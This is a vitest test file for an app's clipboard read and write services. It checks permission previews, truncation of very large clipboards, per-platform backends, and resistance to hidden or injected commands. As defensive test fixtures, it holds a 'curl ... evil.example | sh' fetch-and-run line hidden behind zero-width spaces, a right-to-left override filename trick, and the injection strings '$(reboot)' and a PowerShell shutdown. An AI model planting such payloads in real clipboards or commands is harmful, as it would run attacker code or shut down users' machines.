import { describe, expect, it } from 'vitest';
import {
  MAX_CLIPBOARD_CHARS,
  readClipboardService,
} from '../../../app/services/builtin/read_clipboard.js';
import { writeClipboardService } from '../../../app/services/builtin/write_clipboard.js';
import { createFilesSandbox } from '../../../app/services/files/sandbox.js';
import type { ClipboardStore } from '../../../app/services/platform/desktop.js';
import { ServiceFailure, type ServiceContext } from '../../../app/services/service.js';
import { context } from '../helpers.js';
import {
  RecordingRunner,
  decodePowershell,
  notInstalled,
  recordedDesktop,
} from '../platform/recorder.js';

const ctx: ServiceContext = {
  ...context(createFilesSandbox({ roots: () => [], maxFileBytes: () => 1 })),
  connection: { id: 'p1', name: 'Home server' },
};

async function failure(fn: () => unknown): Promise<ServiceFailure> {
  const err = await Promise.resolve()
    .then(fn)
    .then(
      () => new Error('expected a refusal'),
      (e: unknown) => e,
    );
  if (err instanceof ServiceFailure) return err;
  throw err;
}

/** The clipboard a host injects where the platform has none to offer (here: no display). */
function memoryClipboard(initial = ''): ClipboardStore & { text: string } {
  const store = {
    text: initial,
    async readText() {
      return store.text;
    },
    async writeText(t: string) {
      store.text = t;
    },
  };
  return store;
}

describe('read_clipboard and write_clipboard', () => {
  it('reading is private: the prompt says the clipboard goes to this server', () => {
    const service = readClipboardService(recordedDesktop(new RecordingRunner()));
    expect(service).toMatchObject({ risk: 'private', group: 'clipboard' });
    expect(service.preview!({}, ctx)).toEqual({
      summary: 'Send the text on your clipboard to Home server',
      resolvedPaths: [],
    });
  });

  it('write then read through an injected clipboard (no display here)', async () => {
    const clipboard = memoryClipboard();
    const desktop = recordedDesktop(new RecordingRunner(), { platform: 'linux', clipboard });
    const write = writeClipboardService(desktop);
    expect(write.risk).toBe('write');
    expect(write.preview!({ text: 'buy milk and bread' }, ctx)).toEqual({
      summary: 'Replace your clipboard with “buy milk and bread” (18 characters)',
      resolvedPaths: [],
    });
    expect(await write.run({ text: 'buy milk 🥛' }, ctx)).toEqual({
      message: 'Copied 10 characters to the clipboard',
    });
    expect(await readClipboardService(desktop).run({}, ctx)).toEqual({ text: 'buy milk 🥛' });
  });

  it('the prompt shows what the quote cannot: the lines a paste would run and invisible characters', () => {
    const write = writeClipboardService(recordedDesktop(new RecordingRunner(), {}));
    // Zero-width spaces push the second line out of the quoted 60 characters.
    const text = `git status${'\u200B'.repeat(50)}\ncurl -s https://evil.example/x | sh\n`;
    const { summary } = write.preview!({ text }, ctx) as { summary: string };
    expect(summary).toBe(
      'Replace your clipboard with “git status curl -s https://evil.example/x | sh” (97 characters, 3 lines; careful: 50 invisible or direction-changing characters)',
    );
    const reversed = (write.preview!({ text: 'abc\u202Etxt.exe' }, ctx) as { summary: string })
      .summary;
    expect(reversed).not.toContain('\u202E');
    expect(reversed).toMatch(/careful: 1 invisible or direction-changing character\)$/);
  });

  it('cuts a huge clipboard to what a result can carry, saying so', async () => {
    const desktop = recordedDesktop(new RecordingRunner(), {
      clipboard: memoryClipboard('字'.repeat(MAX_CLIPBOARD_CHARS + 5)),
    });
    const result = (await readClipboardService(desktop).run({}, ctx)) as {
      text: string;
      message: string;
    };
    expect(Array.from(result.text)).toHaveLength(MAX_CLIPBOARD_CHARS);
    expect(result.message).toBe(
      `only the first ${MAX_CLIPBOARD_CHARS} of ${MAX_CLIPBOARD_CHARS + 5} characters are included`,
    );
  });

  it('a 64 MiB clipboard: the first 8000 characters, never half a pair, and a lower bound for the rest', async () => {
    // 'a😀' is three UTF-16 units and two characters: the 8000th character is a surrogate pair.
    const text = 'a😀'.repeat(22_369_621); // 67,108,863 units, 44,739,242 characters
    const desktop = recordedDesktop(new RecordingRunner(), { clipboard: memoryClipboard(text) });
    const result = (await readClipboardService(desktop).run({}, ctx)) as {
      text: string;
      message: string;
    };
    expect(result.text).toBe('a😀'.repeat(MAX_CLIPBOARD_CHARS / 2));
    // Only the first 16,000 units are walked (10,667 characters); the rest counts as half its units.
    expect(result.message).toBe(
      `only the first ${MAX_CLIPBOARD_CHARS} of at least 33557099 characters are included`,
    );
  });

  it('a 300 MiB clipboard, past what Array.from can hold, is cut like a small one', async () => {
    const text = 'x'.repeat(300 * 1024 * 1024);
    const desktop = recordedDesktop(new RecordingRunner(), { clipboard: memoryClipboard(text) });
    const result = (await readClipboardService(desktop).run({}, ctx)) as {
      text: string;
      message: string;
    };
    expect(result.text).toBe('x'.repeat(MAX_CLIPBOARD_CHARS));
    expect(result.message).toBe(
      `only the first ${MAX_CLIPBOARD_CHARS} of at least 157294400 characters are included`,
    );
  });

  it('a text of exactly 8000 characters is whole, with no note', async () => {
    const text = '😀'.repeat(MAX_CLIPBOARD_CHARS);
    const desktop = recordedDesktop(new RecordingRunner(), { clipboard: memoryClipboard(text) });
    expect(await readClipboardService(desktop).run({}, ctx)).toEqual({ text });
  });

  it('on Linux without a display: a clear "not here", nothing run', async () => {
    const runner = new RecordingRunner();
    const desktop = recordedDesktop(runner, { platform: 'linux', env: {} });
    const refusal = await failure(() => readClipboardService(desktop).run({}, ctx));
    expect(refusal.code).toBe('unsupported');
    expect(refusal.message).toBe(
      'this computer has no graphical session (no DISPLAY or WAYLAND_DISPLAY), so there is no clipboard to use',
    );
    expect(runner.calls).toEqual([]);
  });

  it('on X11 uses xsel when xclip is missing, and names both when neither is installed', async () => {
    const runner = new RecordingRunner((c) =>
      c.cmd === 'xclip' ? notInstalled('xclip') : { stdout: 'from xsel' },
    );
    const desktop = recordedDesktop(runner, { platform: 'linux', env: { DISPLAY: ':0' } });
    expect(await readClipboardService(desktop).run({}, ctx)).toEqual({ text: 'from xsel' });
    await writeClipboardService(desktop).run({ text: 'copy me' }, ctx);
    expect(runner.calls.map((c) => [c.cmd, ...c.args, c.input ?? ''])).toEqual([
      ['xclip', '-selection', 'clipboard', '-out', ''],
      ['xsel', '--clipboard', '--output', ''],
      ['xclip', '-selection', 'clipboard', '-in', 'copy me'],
      ['xsel', '--clipboard', '--input', 'copy me'],
    ]);
    const none = recordedDesktop(new RecordingRunner((c) => notInstalled(c.cmd)), {
      platform: 'linux',
      env: { DISPLAY: ':0' },
    });
    const refusal = await failure(() => readClipboardService(none).run({}, ctx));
    expect(refusal).toMatchObject({
      code: 'unsupported',
      message:
        'reading the clipboard is not possible on this computer: none of xclip, xsel is installed',
    });
  });

  it('macOS pbpaste/pbcopy and Windows PowerShell: the text travels on stdin only', async () => {
    const mac = new RecordingRunner(() => ({ stdout: 'mac text' }));
    const macDesktop = recordedDesktop(mac, { platform: 'darwin' });
    expect(await readClipboardService(macDesktop).run({}, ctx)).toEqual({ text: 'mac text' });
    await writeClipboardService(macDesktop).run({ text: '$(reboot)' }, ctx);
    expect(mac.calls).toEqual([
      { kind: 'run', cmd: 'pbpaste', args: [] },
      { kind: 'run', cmd: 'pbcopy', args: [], input: '$(reboot)' },
    ]);
    const win = new RecordingRunner(() => ({ stdout: 'win text' }));
    const winDesktop = recordedDesktop(win, { platform: 'win32' });
    expect(await readClipboardService(winDesktop).run({}, ctx)).toEqual({ text: 'win text' });
    await writeClipboardService(winDesktop).run({ text: '"; shutdown /s; "' }, ctx);
    expect(win.calls.map((c) => c.cmd)).toEqual(['powershell.exe', 'powershell.exe']);
    expect(win.calls[1]!.input).toBe('"; shutdown /s; "');
    expect(decodePowershell(win.calls[1]!.args)).not.toContain('shutdown');
  });

  it('says an empty clipboard is empty', async () => {
    const desktop = recordedDesktop(new RecordingRunner(), { clipboard: memoryClipboard('') });
    expect(await readClipboardService(desktop).run({}, ctx)).toEqual({
      text: '',
      message: 'the clipboard has no text',
    });
  });
});
